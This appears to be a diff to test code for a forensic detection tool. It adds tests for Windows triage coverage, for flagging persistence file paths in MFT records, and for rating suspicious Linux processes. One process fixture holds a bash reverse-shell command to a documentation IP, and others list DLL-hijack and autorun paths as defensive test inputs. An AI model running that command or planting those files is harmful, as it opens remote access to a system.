@@ -123,7 +123,11 @@ def test_scout_collects_what_each_row_needs() -> None:
     assert {row.dataset for row in rows()} <= collected & artefacts().keys()
 
 
-NOT_IN_TRIAGE = {"L080": "the pages of a web application are too many: triage takes those in folders where visitors may write"}
+NOT_IN_TRIAGE = {
+    "L080": "the pages of a web application are too many: triage takes programs and scripts in folders where visitors may write",
+    "W171": "Python may be installed anywhere: triage looks in the usual folders",
+    "W187": "the pages of a web application are too many: triage takes programs and scripts by their kind",
+}
 """Rows that the triage profile does not serve in full, with what serves instead."""
 
 
@@ -132,17 +136,21 @@ def test_triage_takes_every_file_that_a_row_reads() -> None:
     from scout.targets import load
     from scout.targets.patterns import braces, path_regex
 
-    taken = [
-        path_regex(pattern.replace(HOME, "home/agnes/"), fold=False)
-        for target in load()
-        if target.os == "linux" and target.priority == "T" and not target.rule
-        for pattern in target.paths
-    ]
+    homes = {"linux": "home/agnes/", "windows": "Users/x/"}
+    taken = {
+        os: [
+            path_regex(pattern.replace(HOME, homes[os]).replace("%SystemRoot%", "Windows"), fold=os == "windows")
+            for target in load()
+            if target.os == os and target.priority == "T" and not target.rule
+            for pattern in target.paths
+        ]
+        for os in homes
+    }
     missing: dict[str, list[str]] = {}
     for place in file_places():
         for pattern in (alternative for given in place.patterns for alternative in braces(given)):
-            sample = pattern.replace(HOME, "home/agnes/").replace("**/", "a/").replace("**", "a/b").replace("*", "x").replace("?", "1")
-            if not any(regex.fullmatch(sample) for regex in taken):
+            sample = pattern.replace(HOME, homes[place.os]).replace("**/", "a/").replace("**", "a/b").replace("*", "x").replace("?", "1")
+            if not any(regex.fullmatch(sample) for regex in taken[place.os]):
                 missing.setdefault(place.row, []).append(sample)
     assert missing.keys() == NOT_IN_TRIAGE.keys(), missing
 
@@ -165,6 +173,55 @@ def test_patterns_are_quick_on_hostile_text() -> None:
             of_command(text, os)
             of_file(text, os)
     assert traits()["interpreters"]["linux"]
+
+
+# --- rows on other datasets
+
+
+def mft(path: str, **more: object) -> dict:
+    return {"event.dataset": "mft", "escadre.id": "r", "file.path": path, "file.name": path.rsplit("\\", 1)[-1], **more}
+
+
+@pytest.mark.parametrize(
+    ("path", "row"),
+    [
+        (r"C:\Windows\Setup\Scripts\ErrorHandler.cmd", "W042"),
+        (r"C:\Windows\Tasks\At1.job", "W105"),
+        (r"C:\Users\a\AppData\Local\Microsoft\Windows\PowerShell\ScheduledJobs\x\ScheduledJobDefinition.xml", "W106"),
+        (r"C:\Program.exe", "W161"),
+        (r"C:\Windows\System32\WptsExtensions.dll", "W162"),
+        (r"D:\autorun.inf", "W193"),
+        (r"C:\Windows\Tasks\SCHEDLGU.TXT", ""),
+        (r"C:\Program Files\Program.exe", ""),
+        (r"C:\Windows\System32\winhttp.dll", ""),
+        (r"C:\Users\a\autorun.inf", ""),
+        (r"C:\Windows\Panther\Setup\Scripts\x.cmd", ""),
+    ],
+)
+def test_a_file_that_should_not_be_there_is_found_in_the_mft(path: str, row: str) -> None:
+    assert [h.rule for h in judged(DETECTION, [mft(path)], WINDOWS)] == ([row] if row else [])
+    assert not judged(DETECTION, [mft(path) | {"escadre.state": "deleted"}], WINDOWS)
+
+
+@pytest.mark.parametrize(
+    ("more", "severity"),
+    [
+        ({"process.executable": "/usr/sbin/nginx", "process.name": "nginx"}, ""),
+        ({"process.executable": "/usr/sbin/nginx", "process.name": "nginx", "escadre.process.deleted": True}, "low"),
+        ({"process.executable": "/home/agnes/x", "process.name": "x", "escadre.process.deleted": True}, "high"),
+        ({"process.executable": "/memfd:a", "process.name": "a", "escadre.process.memfd": True, "escadre.process.deleted": True}, "high"),
+        ({"process.executable": "/dev/shm/a", "process.name": "a"}, "high"),
+        ({"process.executable": "/usr/bin/x", "process.name": "kworker/0:1", "process.command_line": "[kworker/0:1]"}, "high"),
+        ({"process.name": "kworker/0:1", "process.command_line": ""}, ""),
+        (
+            {"process.executable": "/usr/bin/bash", "process.name": "bash", "process.command_line": "bash -i >& /dev/tcp/192.0.2.1/4 0>&1"},
+            "high",
+        ),
+    ],
+)
+def test_running_programs_are_judged(more: dict, severity: str) -> None:
+    record = {"event.dataset": "live_processes", "escadre.id": "r", "process.pid": 7, "user.name": "root", **more}
+    assert [h.severity for h in judged(DETECTION, [record], LINUX)] == ([severity] if severity else [])
 
 
 # --- severity
